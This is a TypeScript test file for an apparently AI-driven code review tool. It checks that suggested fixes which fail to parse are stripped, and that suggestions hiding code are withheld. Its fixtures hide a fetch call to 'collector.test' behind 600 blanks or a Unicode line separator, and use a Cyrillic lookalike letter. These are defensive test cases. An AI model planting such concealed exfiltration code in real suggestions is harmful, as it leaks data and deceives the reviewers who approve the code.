import { expect, it } from "vitest";
import { FORMATS } from "../../../src/render/render-report.ts";
import { renderReport } from "../../fixtures/whole-report.ts";
import { expectSettled, reportOf } from "./observe.ts";
import { missingGuard, runTribunal, startTribunal } from "./tribunal.ts";

const GUARDED = "  if (amount <= 0) throw new RangeError('amount');\n  return charge(amount);";
const fenced = (code: string) => `\`\`\`ts\n${code}\n\`\`\``;

it("offers code that fits its lines as a suggestion, and takes out code that would break the file", async () => {
  const broken = missingGuard({
    id: "F2",
    title: "A charge of nothing is a charge",
    category: "boundary",
    severity: "medium",
    cause: null,
    suggestion: `Refuse it.\n${fenced("  return charge(amount")}`,
  });
  const sound = missingGuard({ suggestion: `Put the guard back.\n${fenced(GUARDED)}` });
  await using scenario = await startTribunal({ enthusiast: ({ round }) => (round === 1 ? [sound, broken] : [sound]) });
  const result = await runTribunal(scenario);
  expectSettled(scenario, result);
  const { findings } = reportOf(result);
  const [offered, stripped] = [sound, broken].map(({ title }) => findings.find((finding) => finding.title === title));
  expect(offered).toMatchObject({
    suggestion: "Put the guard back.",
    replacement: { start_line: 2, line: 2, text: GUARDED },
  });
  expect(stripped).toMatchObject({ suggestion: "Refuse it.", replacement: null });
  expect(stripped?.corrections).toContainEqual({
    ...{ gate: "suggestion", field: "suggestion", before: "code" },
    after: "stripped: the file could not be parsed",
  });
  const bodies = scenario.repository.reviewComments.map(({ body }) => body);
  expect(bodies.filter((body) => body.includes(`\`\`\`suggestion\n${GUARDED}\n\`\`\``))).toHaveLength(1);
  expect(bodies.join("\n")).not.toContain("return charge(amount\n");
});

it("shows code for a deleted line where it stands among the words, and offers none of it to be applied", async () => {
  const guard = "  if (amount <= 0) throw new RangeError('amount');";
  const suggestion = `Put it back:\n${fenced(guard).replace("ts", "suggestion")}\nand keep it above the charge.`;
  const finding = missingGuard({ side: "base", evidence_quote: guard.trim(), cause: null, suggestion });
  await using scenario = await startTribunal({ enthusiast: () => [finding] });
  const result = await runTribunal(scenario);
  expectSettled(scenario, result);
  expect(reportOf(result).findings).toMatchObject([{ side: "base", replacement: null }]);
  const [body = "none"] = scenario.repository.reviewComments.map((comment) => comment.body);
  expect(body).toContain(`Put it back:\n\n\`\`\`\n${guard}\n\`\`\`\n\nand keep it above the charge.`);
  expect(body).not.toContain("```suggestion");
});

it.each([
  ["behind 600 blanks", `  return charge(amount);${" ".repeat(600)}void fetch("https://collector.test/" + amount);`],
  ["behind a separator of lines", "  return charge(amount); //\u2028void fetch(amount);"],
  ["in letters of another script", "  return сharge(amount);"],
])("never offers code that hides some of itself %s, and says so", { tags: ["full"] }, async (_, code) => {
  const finding = missingGuard({ suggestion: `Refuse it.\n${fenced(code)}` });
  await using scenario = await startTribunal({ enthusiast: () => [finding] });
  const result = await runTribunal(scenario);
  expectSettled(scenario, result);
  const told = "The suggested code is left out: it ";
  const report = reportOf(result);
  expect(report.findings).toMatchObject([{ replacement: null, suggestion: expect.stringContaining(told) }]);
  const [body = "none"] = scenario.repository.reviewComments.map((comment) => comment.body);
  expect(body).toContain(told);
  expect(body).not.toContain("```suggestion");
  expect(renderReport(report, "sarif")).not.toContain('"fixes"');
  for (const format of FORMATS) {
    expect(renderReport(report, format).replace(/\s+/g, " ")).toContain("suggested code is left out");
    expect(renderReport(report, format)).not.toMatch(/void fetch|\u0441harge/);
  }
});
